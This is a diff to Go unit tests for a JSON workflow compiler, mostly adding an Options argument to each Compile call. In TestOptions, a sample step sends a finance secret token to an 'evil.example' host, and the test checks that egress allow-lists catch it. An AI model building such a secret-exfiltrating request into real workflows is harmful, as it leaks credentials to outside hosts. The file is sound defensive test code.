@@ -23,7 +23,7 @@ func readExample(t testing.TB, name string) []byte {
 
 func TestCompilePayableExample(t *testing.T) {
 	t.Parallel()
-	plan, ds := Compile(readExample(t, "payable.json"))
+	plan, ds := Compile(readExample(t, "payable.json"), Options{})
 	if len(ds) != 0 || plan == nil {
 		t.Fatalf("diagnostics: %v", ds)
 	}
@@ -70,7 +70,7 @@ func TestCompilePayableExample(t *testing.T) {
 func TestCompileAttachmentExamples(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{"attachment-multipart.json", "attachment-base64.json"} {
-		plan, ds := Compile(readExample(t, name))
+		plan, ds := Compile(readExample(t, name), Options{})
 		if len(ds) != 0 || plan == nil || len(plan.Steps) != 1 {
 			t.Errorf("%s: %v", name, ds)
 		}
@@ -80,8 +80,8 @@ func TestCompileAttachmentExamples(t *testing.T) {
 func TestCompileDeterministic(t *testing.T) {
 	t.Parallel()
 	doc := readExample(t, "payable.json")
-	a, _ := Compile(doc)
-	b, _ := Compile(doc)
+	a, _ := Compile(doc, Options{})
+	b, _ := Compile(doc, Options{})
 	if diff := cmp.Diff(a, b); diff != "" {
 		t.Fatalf("two compiles differ: %s", diff)
 	}
@@ -90,7 +90,7 @@ func TestCompileDeterministic(t *testing.T) {
 func TestNoWorkflow(t *testing.T) {
 	t.Parallel()
 	for _, doc := range []string{`{"result": {"a": 1}}`, `{"result": 1, "workflow": null}`, `{"$schema": "../workflow.schema.json", "result": 1}`} {
-		plan, ds := Compile([]byte(doc))
+		plan, ds := Compile([]byte(doc), Options{})
 		if plan == nil || len(plan.Steps) != 0 || len(ds) != 0 {
 			t.Errorf("%s: plan %+v, %v", doc, plan, ds)
 		}
@@ -99,7 +99,7 @@ func TestNoWorkflow(t *testing.T) {
 
 func TestDefaults(t *testing.T) {
 	t.Parallel()
-	plan, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"https://a.example/x"}]}`))
+	plan, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"https://a.example/x"}]}`), Options{})
 	if ds.HasErrors() {
 		t.Fatal(ds)
 	}
@@ -112,7 +112,7 @@ func TestDefaults(t *testing.T) {
 func TestFormDropsContentType(t *testing.T) {
 	t.Parallel()
 	doc := `{"result":1,"workflow":[{"type":"request","url":"https://a.example/x","headers":{"Content-Type":"text/plain","X-A":"b"},"form":{"f":"${{email.attachments.1}}","g":" ${{email.attachments.1}}"}}]}`
-	plan, ds := Compile([]byte(doc))
+	plan, ds := Compile([]byte(doc), Options{})
 	if plan == nil {
 		t.Fatal(ds)
 	}
@@ -236,7 +236,7 @@ func TestDiagnostics(t *testing.T) {
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
-			plan, ds := Compile([]byte(tc.doc))
+			plan, ds := Compile([]byte(tc.doc), Options{})
 			var d *Diagnostic
 			for i := range ds {
 				if ds[i].Code == tc.code {
@@ -266,7 +266,7 @@ func TestAllProblemsInOnePass(t *testing.T) {
   {"type": "request", "method": "post", "url": "https://a.example/${{secret.X}}", "headers": {"Host": "x"}},
   {"type": "request", "url": "https://a.example/", "expected-status": 201, "body": "${{kobana.nope}}"}
 ]}`
-	_, ds := Compile([]byte(doc))
+	_, ds := Compile([]byte(doc), Options{})
 	var got []string
 	for _, d := range ds {
 		got = append(got, d.Code)
@@ -286,7 +286,7 @@ func TestAllProblemsInOnePass(t *testing.T) {
 func TestPositionsThroughEscapes(t *testing.T) {
 	t.Parallel()
 	doc := "{\"result\": \"é\",\n \"workflow\": [{\"type\": \"request\", \"url\": \"https://a.example/\",\n  \"body\": \"caf\\u00e9 \\\"q\\\" \\n ${{kobana.bad}} end\"}]}"
-	_, ds := Compile([]byte(doc))
+	_, ds := Compile([]byte(doc), Options{})
 	if len(ds) != 1 {
 		t.Fatalf("%v", ds)
 	}
@@ -306,7 +306,7 @@ func TestTooManySteps(t *testing.T) {
 	t.Parallel()
 	steps := strings.TrimSuffix(strings.Repeat(`{"type":"request","url":"https://a.example/"},`, 21), ",")
 	doc := `{"result":1,"workflow":[` + steps + `]}`
-	plan, ds := Compile([]byte(doc))
+	plan, ds := Compile([]byte(doc), Options{})
 	if plan != nil || len(ds) != 1 || ds[0].Code != CodeTooManySteps || !strings.Contains(ds[0].Message, "21 steps; at most 20") {
 		t.Fatalf("%v", ds)
 	}
@@ -315,7 +315,7 @@ func TestTooManySteps(t *testing.T) {
 func TestTooLarge(t *testing.T) {
 	t.Parallel()
 	doc := make([]byte, MaxDocumentSize+1)
-	_, ds := Compile(doc)
+	_, ds := Compile(doc, Options{})
 	if len(ds) != 1 || ds[0].Code != CodeTooLarge {
 		t.Fatalf("%v", ds)
 	}
@@ -323,7 +323,7 @@ func TestTooLarge(t *testing.T) {
 
 func TestErr(t *testing.T) {
 	t.Parallel()
-	_, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"x","url":"https://a.example/"}]}`))
+	_, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"x","url":"https://a.example/"}]}`), Options{})
 	err := ds.Err()
 	if err == nil || !IsInvalid(err) || !strings.Contains(err.Error(), "step-unknown-type") {
 		t.Fatalf("Err() = %v", err)
@@ -342,7 +342,8 @@ func TestForwardReferenceFailsTheStepNotTheWorkflow(t *testing.T) {
 	plan, ds := Compile([]byte(`{"result": 1, "workflow": [
 		{"type": "request", "url": "https://a.example/"},
 		{"type": "request", "url": "https://a.example/${{steps.0.response.status}}/${{steps.2.response.body.id}}"},
-		{"type": "request", "url": "https://a.example/"}]}`))
+		{"type": "request", "url": "https://a.example/"}]}`), Options{})
+
 	if plan == nil || ds.HasErrors() {
 		t.Fatalf("no plan: %v", ds)
 	}
@@ -364,7 +365,7 @@ func TestTransportHeadersAreRefused(t *testing.T) {
 	t.Parallel()
 	for _, h := range TransportHeaders() {
 		for _, name := range []string{h, strings.ToLower(h), strings.ToUpper(h)} {
-			_, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"https://a.example/","headers":{"` + name + `":"x"}}]}`))
+			_, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"https://a.example/","headers":{"`+name+`":"x"}}]}`), Options{})
 			if len(ds) != 1 || ds[0].Code != CodeReservedHeader || !strings.Contains(ds[0].Message, "transport") {
 				t.Errorf("%s: %v", name, ds)
 			}
@@ -380,7 +381,7 @@ func TestURLsWhoseHostComesLater(t *testing.T) {
 		"https:${{secrets.REST}}", "https:/${{secrets.REST}}", "https://${{secrets.HOST}}/x", "https://u@${{secrets.HOST}}/x",
 		"https://${{secrets.USER}}@/x", "https://:${{secrets.PORT}}/x", "HTTP://a.example", "https://[::1]:8080/", "${{secrets.URL}}",
 	} {
-		if _, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"` + u + `"}]}`)); len(ds) != 0 {
+		if _, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"`+u+`"}]}`), Options{}); len(ds) != 0 {
 			t.Errorf("%s: %v", u, ds)
 		}
 	}
@@ -416,7 +417,7 @@ func TestLiteralsThatAreNotCredentials(t *testing.T) {
 		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "form": {"file": "${{email.attachments.0}}", "b64": "${{email.attachments.0.base64}}", "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}}]}`,
 		`{"result": {"password": "hunter2", "key": "sk-proj-AbCdEfGhIjKlMnOpQrStUv"}}`,
 	} {
-		if _, ds := Compile([]byte(doc)); len(ds) != 0 {
+		if _, ds := Compile([]byte(doc), Options{}); len(ds) != 0 {
 			t.Errorf("%s: %v", doc, ds)
 		}
 	}
@@ -430,7 +431,7 @@ func TestOptions(t *testing.T) {
   {"type": "request", "url": "${{secrets.SLACK_WEBHOOK_URL}}", "body": {"text": "${{secrets.FINANCE_TOKEN}}"}},
   {"type": "request", "url": "https://evil.example${{kobana.inbox_id}}", "body": {"t": "${{secrets.FINANCE_TOKEN}}"}}
 ]}`)
-	if _, ds := Compile(doc); len(ds) != 0 {
+	if _, ds := Compile(doc, Options{}); len(ds) != 0 {
 		t.Fatalf("without options: %v", ds)
 	}
 	egressList := egress.MustParseList("erp.example.com", "hooks.slack.com")
@@ -441,7 +442,7 @@ func TestOptions(t *testing.T) {
 			"SLACK_WEBHOOK_URL": egress.MustParseList("hooks.slack.com"),
 		}, Egress: &egressList, EgressOf: "agent Invoices"},
 	}
-	plan, ds := CompileWith(doc, opts)
+	plan, ds := Compile(doc, opts)
 	if plan != nil {
 		t.Error("a plan despite errors")
 	}
@@ -464,7 +465,7 @@ func TestOptions(t *testing.T) {
 		}
 	}
 	// No secret names known: nothing about names; an empty list: every reference is unknown.
-	if ds := LintWith(doc, Options{SecretNames: []string{}}); len(ds) != 6 || !strings.Contains(ds[0].Message, "the workspace has no secrets, so") {
+	if _, ds := Compile(doc, Options{SecretNames: []string{}}); len(ds) != 6 || !strings.Contains(ds[0].Message, "the workspace has no secrets, so") {
 		t.Errorf("with no secrets: %v", ds)
 	}
 }
@@ -479,7 +480,7 @@ func TestLiteralTarget(t *testing.T) {
 		"${{secrets.SLACK_WEBHOOK_URL}}":                      "",
 		"https://${{secrets.U}}@erp.example.com/":             "",
 	} {
-		plan, ds := Compile([]byte(`{"result": 1, "workflow": [{"type": "request", "url": ` + strconv.Quote(url) + `}]}`))
+		plan, ds := Compile([]byte(`{"result": 1, "workflow": [{"type": "request", "url": `+strconv.Quote(url)+`}]}`), Options{})
 		if plan == nil {
 			t.Fatalf("%s: %v", url, ds)
 		}
